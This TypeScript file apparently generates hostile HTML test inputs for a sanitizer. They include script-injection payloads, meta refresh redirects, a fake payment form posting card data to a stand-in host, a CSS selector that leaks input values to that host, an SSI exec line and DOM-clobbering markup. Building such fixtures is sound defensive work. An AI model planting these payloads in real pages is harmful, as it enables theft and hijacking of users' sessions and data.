// Hostile HTML that requests a foreign server, redirects, imitates the app, or shadows a global of the page.
import { FOREIGN, RUN } from './hostile-code.ts';

export function* foreigners(): Generator<string> {
  const tags = [
    'img src',
    'img srcset',
    'image src',
    'iframe src',
    'embed src',
    'object data',
    'video src',
    'audio src',
  ];
  for (const tag of tags) {
    for (const address of [
      FOREIGN,
      '//hostile.example',
      'https:hostile.example',
      '/\\hostile.example',
      '\\\\hostile.example',
    ]) {
      yield `<${tag}="${address}/${tag.replace(' ', '-')}">`;
    }
  }
  yield `<picture><source srcset="${FOREIGN}/s 2x"><img src=x></picture>`;
  yield `<img src=x srcset="x 1x, ${FOREIGN}/t 2x" sizes=100vw>`;
  yield `<img src="/pictures/../../hostile" lowsrc="${FOREIGN}/l" dynsrc="${FOREIGN}/d">`;
  yield `<video><source src="${FOREIGN}/v.mp4"><track default src="${FOREIGN}/v.vtt"></video>`;
  yield `<video poster="${FOREIGN}/poster"></video>`;
  for (const rel of ['stylesheet', 'preload', 'prefetch', 'modulepreload', 'icon', 'manifest', 'import', 'prerender']) {
    yield `<link rel=${rel} as=image href="${FOREIGN}/${rel}">`;
  }
  for (const delay of ['0', '0.1', ' 0 ', '0;'])
    yield `<meta http-equiv=refresh content="${delay};url=${FOREIGN}/refresh">`;
  yield `<META HTTP-EQUIV="Refresh" CONTENT='0; URL=${FOREIGN}/R'>`;
  yield `<meta http-equiv="set-cookie" content="_tut_=stolen">`;
  yield `<meta http-equiv="content-security-policy" content="script-src * 'unsafe-inline'">`;
  yield `<meta charset=utf-7>+ADw-script+AD4-${RUN}+ADw-/script+AD4-`;
  yield `<base href="${FOREIGN}/"><img src=picture>`;
  yield `<base target=_top href=//hostile.example>`;
  yield `<form action="${FOREIGN}/form"><input name=card autofocus><button>Pay</button></form>`;
  yield `<form id=f action="${FOREIGN}/f2"></form><button form=f>Pay</button>`;
  yield `<a href=https://a.example ping="${FOREIGN}/ping">a</a>`;
  yield `<portal src="${FOREIGN}/portal"></portal>`;
  yield `<fencedframe src="${FOREIGN}/fenced"></fencedframe>`;
  yield `<iframe srcdoc="<script>${RUN}</script>"></iframe>`;
  yield `<iframe srcdoc="&lt;img src=x onerror=${RUN}&gt;" sandbox="allow-scripts allow-same-origin allow-top-navigation"></iframe>`;
  yield `<object type="text/html" data="data:text/html,<script>${RUN}</script>"></object>`;
  yield `<object><param name=movie value="${FOREIGN}/m.swf"><embed src="${FOREIGN}/m.swf"></object>`;
  yield `<svg><image href="${FOREIGN}/svg-image" /></svg>`;
  yield `<svg><use href="${FOREIGN}/sprite.svg#a" /></svg>`;
  yield `<svg><feImage href="${FOREIGN}/fe" /></svg>`;
  yield `<svg><filter id=a><feImage xlink:href="${FOREIGN}/fe2" /></filter><rect filter=url(#a) /></svg>`;
  yield `<xml id=x src="${FOREIGN}/x.xml"></xml>`;
  yield `<?xml-stylesheet href="${FOREIGN}/s.xsl"?>`;
  yield `<!--#include virtual="${FOREIGN}/ssi" --><!--#exec cmd="id" -->`;
}

export function* styles(): Generator<string> {
  const rules = [
    'width:expression(top.__hit=1)',
    'width:ex/**/pression(top.__hit=1)',
    'behavior:url(#default#time2)',
    `-moz-binding:url(${FOREIGN}/b.xml#x)`,
    `background:url(${FOREIGN}/bg)`,
    `background:\\75rl(${FOREIGN}/bg2)`,
    `background-image:image-set("${FOREIGN}/is" 1x)`,
    `list-style:url(${FOREIGN}/ls)`,
    `cursor:url(${FOREIGN}/c),auto`,
    `content:url(${FOREIGN}/ct)`,
    'position:fixed;inset:0;z-index:99999;background:#fff',
    'position:absolute;top:0;left:0;width:100vw;height:100vh',
    'animation:x 1s;transition:all 1s',
    `--x:url(${FOREIGN}/v);background:var(--x)`,
    'background:url(javascript:top.__hit=1)',
    'font-size:9999px;display:block',
  ];
  for (const rule of rules) {
    yield `<p style="${rule.replaceAll('"', '&quot;')}">a</p>`;
    yield `<style>*{${rule}}</style><p>a</p>`;
    yield `<svg><style>*{${rule}}</style></svg>`;
  }
  yield `<style>@import url(${FOREIGN}/i.css);</style>`;
  yield `<style>@import '${FOREIGN}/i2.css';</style>`;
  yield `<style>@font-face{font-family:x;src:url(${FOREIGN}/f.woff2)}p{font-family:x}</style><p>a</p>`;
  yield `<style>input[value^=a]{background:url(${FOREIGN}/leak)}</style><input value=abc>`;
  yield `<p class="sheet overlay" id="root">a</p>`;
  yield `<div style=position:fixed;inset:0 onclick=${RUN}>Tap to pay</div>`;
  yield `<link rel=stylesheet href="data:text/css,*{color:red}">`;
}

export function* clobbering(): Generator<string> {
  const names = [
    'body',
    'cookie',
    'forms',
    'location',
    'documentElement',
    'getElementById',
    'createElement',
    'trustedTypes',
  ];
  for (const name of [...names, 'tabl', 'root', 'attributes', 'nodeName', 'parentNode', 'childNodes', '__proto__']) {
    yield `<img name="${name}">`;
    yield `<form id="${name}"><input name=attributes><input id=nodeName></form>`;
    yield `<a id="${name}"></a><a id="${name}" name=href href="${FOREIGN}/clobber">a</a>`;
  }
  yield `<form><input name=parentNode><input name=removeChild><img src=x onerror=${RUN}></form>`;
  yield `<form id=f><input name=attributes></form><button form=f formaction="javascript:${RUN}">a</button>`;
  yield `<form onsubmit=${RUN}><input name=removeAttribute><button autofocus>a</button></form>`;
  yield `<iframe name=self srcdoc="<a id=x>"></iframe>`;
  yield `<object name=document data="about:blank"></object>`;
}
